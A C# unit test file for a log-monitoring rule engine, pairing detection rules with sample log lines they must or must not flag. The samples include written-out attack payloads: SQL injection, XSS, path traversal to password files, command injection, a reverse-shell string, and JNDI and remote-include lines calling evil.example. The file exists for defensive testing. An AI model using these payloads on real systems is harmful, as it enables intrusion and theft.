namespace LogGuard.Core.Tests.Rules;

public sealed class RuleEngineTests
{
    // Each rule: lines it must fire on, and near-misses it must stay silent on.
    public static readonly TheoryData<string, string> Positives = new()
    {
        { "LG-LVL-001", "2026-03-04 10:01:02,123 ERROR [main] c.e.Job - export failed" },
        { "LG-LVL-001", "{\"ts\":\"2026-03-04T10:01:02Z\",\"level\":\"error\",\"msg\":\"write failed\"}" },
        { "LG-LVL-001", "[Sun Dec 04 04:47:44 2005] [error] mod_jk child workerEnv in error state 6" },
        { "LG-LVL-002", "2026-03-04 10:01:02,123 FATAL [main] c.e.App - cannot start" },
        { "LG-LVL-002", "ts=2026-03-04T10:01:02Z level=critical msg=\"disk full\"" },
        { "LG-HTTP-001", "10.0.0.1 - - [04/Mar/2026:10:01:02 +0000] \"GET /api/orders HTTP/1.1\" 502 120 \"-\" \"curl/8.5.0\"" },
        { "LG-HTTP-001", "ts=2026-03-04T10:01:02Z level=info path=/v1/items status=503" },
        { "LG-HTTP-002", "10.0.0.1 - - [04/Mar/2026:10:01:02 +0000] \"POST /login HTTP/1.1\" 401 120 \"-\" \"curl/8.5.0\"" },
        { "LG-HTTP-003", "auth summary: 401 401 403 401 from 10.0.0.9 in 2s" },
        { "LG-HTTP-004", "10.0.0.1 - - [04/Mar/2026:10:01:02 +0000] \"GET /api HTTP/1.1\" 429 12 \"-\" \"curl/8.5.0\"" },
        { "LG-HTTP-004", "WARN gateway: rate limit exceeded for client 10.0.0.9" },
        { "LG-TIME-001", "ERROR upstream request timed out after 30000ms" },
        { "LG-TIME-001", "java.net.SocketTimeoutException: connect timeout" },
        { "LG-PERF-001", "GET /api/orders took 1.2s" },
        { "LG-PERF-001", "method=GET path=/x duration=1500ms" },
        { "LG-PERF-001", "\"GET / HTTP/1.1\" 200 12 rt=2.3" },
        { "LG-PERF-001", "{\"msg\":\"done\",\"duration_ms\":4000}" },
        { "LG-PERF-002", "LOG: slow query on orders" },
        { "LG-AUTH-001", "sshd[24200]: Failed password for root from 10.0.0.9 port 22 ssh2" },
        { "LG-AUTH-001", "pam_unix(sshd:auth): authentication failure; logname= uid=0" },
        { "LG-AUTH-002", "sshd[24200]: Invalid user oracle from 10.0.0.9" },
        { "LG-AUTH-002", "pam_unix(sshd:auth): check pass; user unknown" },
        { "LG-AUTH-003", "reverse mapping checking getaddrinfo for x.example [1.2.3.4] failed - POSSIBLE BREAK-IN ATTEMPT!" },
        { "LG-AUTH-004", "nginx: open() \"/srv/secret\" failed (13: Permission denied)" },
        { "LG-PRIV-001", "sudo: bob : user NOT in sudoers ; TTY=pts/0 ; COMMAND=/bin/bash" },
        { "LG-PRIV-001", "su[811]: FAILED su for root by alice" },
        { "LG-SQLI-001", "GET /products?id=1' OR '1'='1" },
        { "LG-SQLI-001", "GET /products?id=1%27%20OR%201%3D1--" },
        { "LG-SQLI-001", "GET /search?q=x%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users" },
        { "LG-SQLI-001", "GET /item?id=1;DROP TABLE users" },
        { "LG-SQLI-001", "GET /item?id=1 AND SLEEP(5)" },
        { "LG-XSS-001", "GET /search?q=<script>alert(1)</script>" },
        { "LG-XSS-001", "GET /search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E" },
        { "LG-XSS-001", "GET /p?next=javascript:alert(document.cookie)" },
        { "LG-PATH-001", "GET /download?file=../../../../etc/passwd" },
        { "LG-PATH-001", "GET /download?file=..%2F..%2F..%2Fetc%2Fshadow" },
        { "LG-PATH-001", "GET /static/..\\..\\windows\\win.ini" },
        { "LG-CMDI-001", "GET /ping?host=127.0.0.1;cat /etc/passwd" },
        { "LG-CMDI-001", "GET /ping?host=x%7Cwhoami" },
        { "LG-CMDI-001", "GET /run?cmd=$(id)" },
        { "LG-SSTI-001", "GET /hello?name={{7*7}}" },
        { "LG-SSTI-001", "GET /hello?name=${T(java.lang.Runtime).getRuntime()}" },
        { "LG-JNDI-001", "GET / HTTP/1.1\" 200 1 \"-\" \"${jndi:ldap://evil.example/a}\"" },
        { "LG-NOSQL-001", "POST /login user[$ne]=admin&pass[$ne]=x" },
        { "LG-NOSQL-001", "GET /users?filter=*)(uid=*))(|(uid=*" },
        { "LG-SCAN-001", "1.2.3.4 - - [04/Mar/2026:10:01:02 +0000] \"GET / HTTP/1.1\" 404 1 \"-\" \"sqlmap/1.8#stable (https://sqlmap.org)\"" },
        { "LG-SCAN-001", "1.2.3.4 - - [04/Mar/2026:10:01:02 +0000] \"GET / HTTP/1.1\" 404 1 \"-\" \"Mozilla/5.00 (Nikto/2.5.0)\"" },
        { "LG-KERN-001", "kernel: Kernel panic - not syncing: Fatal exception" },
        { "LG-KERN-001", "RAS KERNEL FATAL Lustre mount FAILED : bglio559 : point /p/gb1" },
        { "LG-KERN-001", "kernel: blk_update_request: I/O error, dev sda, sector 1234" },
        { "LG-CRASH-001", "Exception in thread \"main\" java.lang.NullPointerException" },
        { "LG-CRASH-001", "Traceback (most recent call last): KeyError: 'x'" },
        { "LG-IO-001", "RAS APP FATAL ciod: Error reading message prefix after LOAD_MESSAGE on CioStream socket to 172.16.96.116" },
        { "LG-IO-001", "worker-3: failed to write response body to client stream: EOF" },
        { "LG-WEB-001", "1.2.3.4 - - [04/Mar/2026:10:01:02 +0000] \"GET /.env HTTP/1.1\" 404 1 \"-\" \"curl/8.5.0\"" },
        { "LG-WEB-001", "1.2.3.4 - - [04/Mar/2026:10:01:02 +0000] \"POST /wp-login.php HTTP/1.1\" 200 1 \"-\" \"curl/8.5.0\"" },
        { "LG-WEB-001", "1.2.3.4 - - [04/Mar/2026:10:01:02 +0000] \"GET /actuator/heapdump HTTP/1.1\" 200 1 \"-\" \"curl/8.5.0\"" },
        { "LG-WEB-001", "1.2.3.4 - - [04/Mar/2026:10:01:02 +0000] \"GET /debug/pprof/goroutine HTTP/1.1\" 404 1 \"-\" \"curl/8.5.0\"" },
        { "LG-SQLI-001", "GET /item?id=1%0aUNION%0aSELECT%20password%20FROM%20users HTTP/1.1" },
        { "LG-SQLI-001", "GET /item?id=1;select name from sysobjects HTTP/1.1" },
        { "LG-SQLI-001", "GET /item?id=char(97,100,109,105,110) HTTP/1.1" },
        { "LG-CMDI-001", "GET /ping?host=8.8.8.8%0aps%20aux HTTP/1.1" },
        { "LG-PATH-001", "GET /view?file=/proc/version HTTP/1.1" },
        { "LG-PATH-001", "GET /read?path=c:\\windows\\system32\\drivers\\etc\\hosts HTTP/1.1" },
        { "LG-PATH-002", "1.2.3.4 - - [04/Mar/2026:10:01:02 +0000] \"GET /files/../config.php HTTP/1.1\" 404 1 \"-\" \"curl/8.5.0\"" },
        { "LG-PATH-002", "GET /download?file=....//....//app/config HTTP/1.1" },
        { "LG-SSRF-001", "GET /fetch?url=http://169.254.169.254/latest/meta-data/iam HTTP/1.1" },
        { "LG-SSRF-001", "GET /proxy?target=http%3A%2F%2F2130706433%2Fadmin HTTP/1.1" },
        { "LG-SSRF-001", "POST /webhook {\"callback\": \"gopher://10.0.0.5:6379/_INFO\"}" },
        { "LG-RFI-001", "GET /index.php?page=php://filter/convert.base64-encode/resource=index HTTP/1.1" },
        { "LG-RFI-001", "GET /index.php?inc=http://evil.example/shell.txt? HTTP/1.1" },
        { "LG-RFI-001", "GET /view?file=/proc/self/environ HTTP/1.1" },
        { "LG-CMDI-001", "GET /ping?host=127.0.0.1;cat${IFS}/etc/passwd HTTP/1.1" },
        { "LG-CMDI-001", "GET /run?cmd=bash+-i+>%26+/dev/tcp/10.0.0.1/4444+0>%261 HTTP/1.1" },
        { "LG-CMDI-001", "GET /ping?ip=1.1.1.1%26ipconfig HTTP/1.1" },
    };

    public static readonly TheoryData<string, string> Negatives = new()
    {
        { "LG-LVL-001", "INFO no error found during checks" },
        { "LG-LVL-002", "INFO fatal_count=0 reported" },
        { "LG-HTTP-001", "10.0.0.1 - - [04/Mar/2026:10:01:02 +0000] \"GET /api/orders/500 HTTP/1.1\" 200 502 \"-\" \"curl/8.5.0\"" },
        { "LG-HTTP-002", "10.0.0.1 - - [04/Mar/2026:10:01:02 +0000] \"GET /rooms/401 HTTP/1.1\" 200 403 \"-\" \"curl/8.5.0\"" },
        { "LG-HTTP-003", "order 401 shipped to 10.0.0.9" },
        { "LG-TIME-001", "Notification time out: 3200" },
        { "LG-PERF-001", "GET /api/orders took 35ms" },
        { "LG-PERF-001", "retried in 3 attempts" },
        { "LG-AUTH-001", "Accepted publickey for deploy from 10.0.0.9 port 51000 ssh2" },
        { "LG-AUTH-002", "session opened for user deploy by (uid=0)" },
        { "LG-PRIV-001", "sudo: deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart app" },
        { "LG-SQLI-001", "GET /search?q=fish+or+chips HTTP/1.1" },
        { "LG-SQLI-001", "LOG: statement: SELECT * FROM orders WHERE id = 5" },
        { "LG-XSS-001", "GET /blog/writing-a-script-for-alerts HTTP/1.1" },
        { "LG-PATH-001", "GET /static/app.js HTTP/1.1" },
        { "LG-PATH-001", "2016-09-28 04:30:31, Info CBS Loaded Servicing Stack v6.1.7601.23505 with Core: C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack\\cbscore.dll" },
        { "LG-SQLI-001", "LOG:  statement: SELECT id, name FROM products WHERE category = 'garden' ORDER BY name" },
        { "LG-CMDI-001", "GET /cart?filter=classic&id=c1fbf5270396&sort=asc HTTP/1.1" },
        { "LG-CMDI-001", "GET /docs/shell-scripting HTTP/1.1" },
        { "LG-SSTI-001", "config loaded from ${HOME}/app.yaml" },
        { "LG-SCAN-001", "GET /trips/las-vegas HTTP/1.1" },
        { "LG-KERN-001", "RAS KERNEL INFO instruction cache parity error corrected" },
        { "LG-KERN-001", "RAS KERNEL INFO NFS Mount failed on bglio716, slept 15 seconds, retrying (1)" },
        { "LG-IO-001", "sshd[25457]: fatal: Write failed: Connection reset by peer [preauth]" },
        { "LG-IO-001", "INFO reading 120 records from stream orders-events" },
        { "LG-WEB-001", "GET /environment/settings HTTP/1.1" },
        { "LG-WEB-001", "10.0.0.1 - - [04/Mar/2026:10:01:02 +0000] \"GET /actuator/health HTTP/1.1\" 200 15 \"-\" \"kube-probe/1.29\"" },
        { "LG-PATH-002", "2026-03-04 INFO build: copying ../shared/lib into output" },
        { "LG-SSRF-001", "Started server at http://localhost:4040" },
        { "LG-SSRF-001", "I/ActivityManager: uri=file:///sdcard/Download/report.pdf" },
        { "LG-RFI-001", "GET /redirect?next=https://shop.example/cart HTTP/1.1" },
        { "LG-CMDI-001", "GET /download?ver=2&lang=en HTTP/1.1" },
    };

    [Theory]
    [MemberData(nameof(Positives))]
    public void Evaluate_LineTheRuleDescribes_FiresTheRule(string ruleId, string line) =>
        ShippedRules.Fired(line).Should().Contain(ruleId);

    [Theory]
    [MemberData(nameof(Negatives))]
    public void Evaluate_NearMiss_DoesNotFireTheRule(string ruleId, string line) =>
        ShippedRules.Fired(line).Should().NotContain(ruleId);

    [Fact]
    public void ShippedRules_EveryRule_HasAPositiveExampleHere()
    {
        var tested = Positives.Select(row => (string)row[0]).ToHashSet();
        ShippedRules.Set.Rules.Select(rule => rule.Definition.Id).Should().BeSubsetOf(tested);
    }

    [Fact]
    public void Evaluate_NoRuleFires_ScoresZero()
    {
        var evaluation = ShippedRules.Evaluate("2026-03-04 10:01:02,123 INFO [main] c.e.orders.OrderService - Order 48213 created in 35ms");

        evaluation.Score.Should().Be(0);
        evaluation.Triggered.Should().BeEmpty();
    }

    [Fact]
    public void Evaluate_SeveralRulesFire_CombinesWeightsByNoisyOr()
    {
        var evaluation = ShippedRules.Evaluate("sshd[1]: Failed password for invalid user oracle from 10.0.0.9 port 22 ssh2");

        var expected = 1 - evaluation.Triggered.Aggregate(1.0, (rest, rule) => rest * (1 - rule.Weight));
        evaluation.Triggered.Should().HaveCountGreaterThan(1);
        evaluation.Score.Should().BeApproximately(expected, 1e-4).And.BeLessThanOrEqualTo(1);
    }
}
